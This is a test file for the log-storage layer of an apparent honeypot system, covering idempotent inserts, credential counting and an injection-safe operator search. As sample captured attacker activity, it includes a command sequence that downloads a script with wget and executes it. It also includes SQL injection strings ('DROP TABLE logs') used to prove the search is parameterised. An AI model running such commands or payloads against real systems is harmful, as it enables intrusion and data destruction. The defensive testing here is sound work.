// The logs repository against real Postgres: the bulk write path (log rows idempotent on the
// event id and stored in arrival order, credential upserts that add up exactly even when batches
// overlap, bounties stored once, attachment sightings counted, the progress row), the profiler's
// reads, and the operator's search that never puts user text into SQL.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ScratchDatabase } from '@decnet/testing/postgres';
import type { Database } from '../connection.js';
import { isDataError } from '../errors.js';
import { attackers } from '../schema/attackers.js';
import { bounty, credentials, logs, observed_attachments, state } from '../schema/logs.js';
import { getState } from '../state.js';
import { countRows, insertRows, migratedScratchDatabase, refuseInserts, tableRows, truncateTables } from '../testing.js';
import { withTransaction } from '../transaction.js';
import {
  addressesWithLogs,
  bountySummaryByAddress,
  buildLogsQuery,
  credentialCountByAddress,
  forEachLogChunkOf,
  insertBounties,
  insertLogRows,
  linkCredentialsToAttackers,
  maxLogId,
  readLogsAfter,
  readLogsInRanges,
  recordIngestProgress,
  searchLogs,
  upsertCredentials,
  upsertObservedAttachments,
  type CredentialUpsertRow,
  type NewLogRow,
  type StoredLogRow,
} from './logs-repository.js';

let scratch: ScratchDatabase;
let database: Database;

beforeAll(async () => {
  ({ scratch, database } = await migratedScratchDatabase());
});
afterAll(async () => {
  await database.close();
  await scratch.drop();
});
beforeEach(async () => {
  await truncateTables(database, [logs, credentials, bounty, observed_attachments, state, attackers]);
});

const AT = new Date('2026-05-02T06:00:25Z');

function logRow(eventId: string, over: Partial<NewLogRow> = {}): NewLogRow {
  return {
    timestamp: AT,
    decky: 'decky-01',
    service: 'ssh',
    event_type: 'login',
    attacker_ip: '198.51.100.7',
    raw_line: `<134>1 2026-05-02T06:00:25Z decky-01 ssh - login [relay@55555 n="${eventId}"]`,
    fields: { n: eventId },
    msg: null,
    event_id: eventId,
    source_worker: null,
    ...over,
  };
}

function credential(password: string, over: Partial<CredentialUpsertRow> = {}): CredentialUpsertRow {
  return {
    attacker_ip: '198.51.100.7',
    decky_name: 'decky-01',
    service: 'ssh',
    principal: 'root',
    principal_key: 'root',
    secret_kind: 'plaintext',
    secret_sha256: `sha-${password}`,
    secret_b64: Buffer.from(password).toString('base64'),
    secret_printable: password,
    outcome: null,
    fields: {},
    first_seen: AT,
    last_seen: AT,
    attempt_count: 1,
    ...over,
  };
}

describe('log rows are idempotent on the event id and keep arrival order', () => {
  it('inserts new rows, returns their ids, and nothing for a redelivered event', async () => {
    const first = await insertLogRows(database.pool, [logRow('a'), logRow('b'), logRow('c')]);
    expect([...first.keys()]).toEqual(['a', 'b', 'c']);
    const again = await insertLogRows(database.pool, [logRow('b'), logRow('d')]);
    expect([...again.keys()]).toEqual(['d']);
    expect(await countRows(database, logs)).toBe(4);
    const [stored] = await tableRows(database, logs, { match: { event_id: 'a' } });
    expect(stored).toMatchObject({ decky: 'decky-01', service: 'ssh', event_type: 'login', attacker_ip: '198.51.100.7', fields: { n: 'a' }, timestamp: AT });
    expect(String(stored?.id)).toBe(first.get('a'));
  });

  it('stores a batch in array order, whatever its ids, so logs.id follows arrival', async () => {
    const commands = ['cd /tmp', 'wget http://203.0.113.50/x.sh', 'chmod +x x.sh', '/bin/sh -c ./x.sh', 'exit'];
    const ids = ['f1', '0a', '9c', '3e', 'b7'];
    await insertLogRows(database.pool, commands.map((cmd, i) => logRow(ids[i] as string, { fields: { cmd } })));
    expect((await tableRows(database, logs, { orderBy: [logs.id] })).map((r) => r.fields.cmd)).toEqual(commands);
  });

  it('stores the remote sender apart from the syslog hostname', async () => {
    await insertLogRows(database.pool, [logRow('tls-1', { source_worker: 'agent-07' }), logRow('local-1')]);
    const rows = await tableRows(database, logs, { orderBy: [logs.event_id] });
    expect(rows.map((r) => ({ event_id: r.event_id, source_worker: r.source_worker }))).toEqual([
      { event_id: 'local-1', source_worker: null },
      { event_id: 'tls-1', source_worker: 'agent-07' },
    ]);
  });

  it('refuses a row without a time with a data error, storing nothing of its statement', async () => {
    let caught: unknown;
    await insertLogRows(database.pool, [logRow('ok'), logRow('bad', { timestamp: new Date(Number.NaN) })]).catch((err: unknown) => (caught = err));
    expect(caught).toMatchObject({ code: '23502' });
    expect(isDataError(caught)).toBe(true);
    expect(await countRows(database, logs)).toBe(0);
  });
});

describe('credential upserts add up exactly', () => {
  it('sums attempts, widens first/last seen, keeps a stored secret and takes a newer outcome', async () => {
    const early = new Date('2026-05-01T00:00:00Z');
    const late = new Date('2026-05-03T00:00:00Z');
    await upsertCredentials(database.pool, [credential('pw', { attempt_count: 2, outcome: 'failure' }), credential('other')]);
    await upsertCredentials(database.pool, [
      credential('pw', { attempt_count: 3, first_seen: early, last_seen: late, secret_b64: null, secret_printable: null, outcome: null }),
    ]);
    const rows = await tableRows(database, credentials, { orderBy: [credentials.secret_printable] });
    expect(rows.map((r) => ({ secret_printable: r.secret_printable, attempt_count: r.attempt_count }))).toEqual([
      { secret_printable: 'other', attempt_count: 1 },
      { secret_printable: 'pw', attempt_count: 5 },
    ]);
    expect(rows[1]).toMatchObject({ first_seen: early, last_seen: late, outcome: 'failure', secret_b64: Buffer.from('pw').toString('base64') });
    await upsertCredentials(database.pool, [credential('pw', { outcome: 'success' })]);
    expect((await tableRows(database, credentials, { match: { secret_printable: 'pw' } }))[0]).toMatchObject({ attempt_count: 6, outcome: 'success' });
  });

  it('keeps concurrent overlapping upserts exact', async () => {
    const rows = Array.from({ length: 30 }, (_, i) => credential(`pw${i}`));
    await Promise.all([
      withTransaction(database.pool, (tx) => upsertCredentials(tx, rows.slice(0, 20))),
      withTransaction(database.pool, (tx) => upsertCredentials(tx, rows.slice(10))),
      withTransaction(database.pool, (tx) => upsertCredentials(tx, rows.slice(5, 25))),
    ]);
    expect(await countRows(database, credentials)).toBe(30);
    expect((await tableRows(database, credentials)).reduce((n, r) => n + r.attempt_count, 0)).toBe(60);
  });

  it('writes nothing for no rows', async () => {
    await upsertCredentials(database.pool, []);
    expect(await countRows(database, credentials)).toBe(0);
  });
});

describe('bounties are stored once per (type, address, payload)', () => {
  const fingerprint = (hash: string, ip = '198.51.100.7') => ({
    timestamp: AT,
    decky: 'decky-01',
    service: 'ssh',
    attacker_ip: ip,
    bounty_type: 'fingerprint',
    payload: { fingerprint_type: 'hassh', hash },
  });

  it('drops repeats within a batch and against stored rows, and counts what it inserted', async () => {
    expect(await insertBounties(database.pool, [fingerprint('a'), fingerprint('a'), fingerprint('b'), fingerprint('a', '203.0.113.9')])).toBe(3);
    expect(await insertBounties(database.pool, [fingerprint('a'), fingerprint('c')])).toBe(1);
    expect(await countRows(database, bounty)).toBe(4);
    expect(await insertBounties(database.pool, [])).toBe(0);
  });
});

describe('attachment sightings are counted per hash', () => {
  it('counts sightings, widens first/last seen, collects extensions, keeps the first subject', async () => {
    const hash = 'a'.repeat(64);
    const later = new Date(AT.getTime() + 60_000);
    await upsertObservedAttachments(database.pool, [
      { sha256: hash, at: later, extension: 'pdf', subject: 'invoice' },
      { sha256: hash, at: AT, extension: null, subject: 'other' },
    ]);
    await upsertObservedAttachments(database.pool, [{ sha256: hash, at: later, extension: 'pdf', subject: 'third' }]);
    const rows = await tableRows(database, observed_attachments);
    expect(rows.map((r) => ({ observation_count: r.observation_count, extensions: r.extensions, first_subject: r.first_subject }))).toEqual([
      { observation_count: 3, extensions: ['pdf'], first_subject: 'invoice' },
    ]);
    expect(rows[0]).toMatchObject({ first_seen: AT, last_seen: later });
  });
});

describe('the progress row', () => {
  it('sums events, counts batches and keeps the highest log id', async () => {
    await recordIngestProgress(database.pool, 'progress-test', { events: 3, lastLogId: '10', at: AT });
    await recordIngestProgress(database.pool, 'progress-test', { events: 0, lastLogId: null, at: AT });
    await recordIngestProgress(database.pool, 'progress-test', { events: 2, lastLogId: '7', at: AT });
    expect(await getState(database.db, 'progress-test')).toEqual({ events: 5, batches: 3, last_log_id: 10, updated_at: AT.toISOString() });
  });
});

describe('one transaction stores all of a batch or nothing', () => {
  it('rolls the log rows back when a later statement fails', async () => {
    const allow = await refuseInserts(database, bounty, { column: 'payload', key: 'stored_as', equals: 'poison' });
    try {
      let caught: unknown;
      await withTransaction(database.pool, async (tx) => {
        await insertLogRows(tx, [logRow('a')]);
        await upsertCredentials(tx, [credential('pw')]);
        await insertBounties(tx, [{ timestamp: AT, decky: 'd', service: 's', attacker_ip: '198.51.100.7', bounty_type: 'artifact', payload: { stored_as: 'poison' } }]);
      }).catch((err: unknown) => (caught = err));
      expect(isDataError(caught)).toBe(true);
      expect(await countRows(database, logs)).toBe(0);
      expect(await countRows(database, credentials)).toBe(0);
    } finally {
      await allow();
    }
  });
});

describe('the profiler reads stored rows by id', () => {
  it('reads rows above an id, rows in id ranges, addresses with history and the highest id', async () => {
    const ids = [...(await insertLogRows(database.pool, ['a', 'b', 'c', 'd', 'e'].map((id, i) => logRow(id, { attacker_ip: i < 3 ? '192.0.2.1' : '192.0.2.2' })))).values()].map(Number);
    const [a, b, c, d, e] = ids as [number, number, number, number, number];
    const after = await readLogsAfter(database.pool, b, 2);
    expect(after.map((r) => Number(r.id))).toEqual([c, d]);
    expect(after[0]).toMatchObject({ decky: 'decky-01', service: 'ssh', event_type: 'login', attacker_ip: '192.0.2.1', fields: { n: 'c' }, msg: null, timestamp: AT });
    expect((await readLogsInRanges(database.pool, [{ lo: a, hi: a }, { lo: d, hi: e }])).map((r) => Number(r.id))).toEqual([a, d, e]);
    expect(await readLogsInRanges(database.pool, [])).toEqual([]);
    expect(await addressesWithLogs(database.pool, ['192.0.2.1', '192.0.2.2', '192.0.2.3'], c)).toEqual(new Set(['192.0.2.1']));
    expect(await maxLogId(database.pool)).toBe(e);
    await truncateTables(database, [logs]);
    expect(await maxLogId(database.pool)).toBe(0);
  });

  it('streams one address\'s history oldest first in chunks, leaving out excluded ranges', async () => {
    const rows = Array.from({ length: 7 }, (_, i) => logRow(`h${i}`, { timestamp: new Date(AT.getTime() - i * 1_000) }));
    const ids = [...(await insertLogRows(database.pool, rows)).values()].map(Number);
    const chunks: StoredLogRow[][] = [];
    await withTransaction(database.pool, (tx) =>
      forEachLogChunkOf(tx, '198.51.100.7', ids[5] as number, [{ lo: ids[1] as number, hi: ids[2] as number }], 2, (chunk) => chunks.push(chunk)),
    );
    // Rows 0, 3, 4 and 5 qualify; by time (each row is older than the one before), oldest first.
    expect(chunks.flat().map((r) => r.fields.n)).toEqual(['h5', 'h4', 'h3', 'h0']);
    expect(chunks.map((c) => c.length)).toEqual([2, 2, 0]);
  });
});

describe('what the profiler counts per address', () => {
  it('counts bounties with the first fingerprints, counts credentials, and links credentials to attackers', async () => {
    const ip = '198.51.100.7';
    await insertBounties(database.pool, [
      ...['f1', 'f2', 'f3'].map((hash) => ({ timestamp: AT, decky: 'd', service: 's', attacker_ip: ip, bounty_type: 'fingerprint', payload: { hash } })),
      { timestamp: AT, decky: 'd', service: 's', attacker_ip: ip, bounty_type: 'ip_leak', payload: { ip: '10.0.0.1' } },
    ]);
    expect(await bountySummaryByAddress(database.pool, [ip, '192.0.2.9'], 2)).toEqual(new Map([[ip, { count: 4, fingerprints: [{ hash: 'f1' }, { hash: 'f2' }] }]]));
    await upsertCredentials(database.pool, [credential('a'), credential('b')]);
    expect(await credentialCountByAddress(database.pool, [ip, '192.0.2.9'])).toEqual(new Map([[ip, 2]]));
    await insertRows(database, attackers, [{ uuid: '11111111-1111-4111-8111-111111111111', ip }]);
    await linkCredentialsToAttackers(database.pool, [ip]);
    expect((await tableRows(database, credentials)).map((c) => c.attacker_uuid)).toEqual([
      '11111111-1111-4111-8111-111111111111',
      '11111111-1111-4111-8111-111111111111',
    ]);
  });
});

describe('the operator\'s search', () => {
  it('never puts search text into the SQL, and escapes LIKE wildcards', () => {
    const evil = `'; DROP TABLE logs; -- "x`;
    const q = buildLogsQuery(
      [
        { kind: 'column', column: 'decky', value: evil },
        { kind: 'field', key: evil, value: 'v' },
        { kind: 'word', word: evil },
        { kind: 'word', word: '100%_' },
      ],
      5,
    );
    expect(q.text).not.toContain('DROP');
    expect(q.text).not.toContain('100');
    expect(q.values).toContain(evil);
    expect(q.values).toContain('%100\\%\\_%');
  });

  it('refuses a column it does not know instead of writing it into the SQL', () => {
    expect(() => buildLogsQuery([{ kind: 'column', column: 'raw_line; DROP TABLE logs', value: 'x' }], 5)).toThrow(RangeError);
  });

  it('filters by columns, fields and words, newest first, at most the limit', async () => {
    await insertLogRows(database.pool, [
      logRow('r1', { timestamp: new Date('2026-05-02T06:00:01Z'), fields: { username: 'root' }, raw_line: 'r1 Failed password' }),
      logRow('r2', { timestamp: new Date('2026-05-02T06:00:03Z'), service: 'http', attacker_ip: '5.6.7.8', raw_line: 'r2' }),
      logRow('r3', { timestamp: new Date('2026-05-02T06:00:02Z'), attacker_ip: '5.6.7.8', fields: { username: 'admin' }, raw_line: 'r3 failed PASSWORD' }),
    ]);
    const search = async (terms: Parameters<typeof searchLogs>[1], limit = 10) => (await searchLogs(database.pool, terms, limit)).map((r) => r.event_id);
    expect(await search([])).toEqual(['r2', 'r3', 'r1']);
    expect(await search([{ kind: 'column', column: 'service', value: 'ssh' }])).toEqual(['r3', 'r1']);
    expect(await search([{ kind: 'field', key: 'username', value: 'root' }])).toEqual(['r1']);
    expect(await search([{ kind: 'word', word: 'failed password' }])).toEqual(['r3', 'r1']);
    expect(await search([{ kind: 'word', word: "'; DROP TABLE logs; --" }])).toEqual([]);
    expect(await search([], 1)).toEqual(['r2']);
    const [row] = await searchLogs(database.pool, [{ kind: 'column', column: 'event_type', value: 'login' }], 1);
    expect(row).toMatchObject({ id: expect.stringMatching(/^\d+$/), timestamp: new Date('2026-05-02T06:00:03Z'), raw_line: 'r2', msg: null });
  });
});
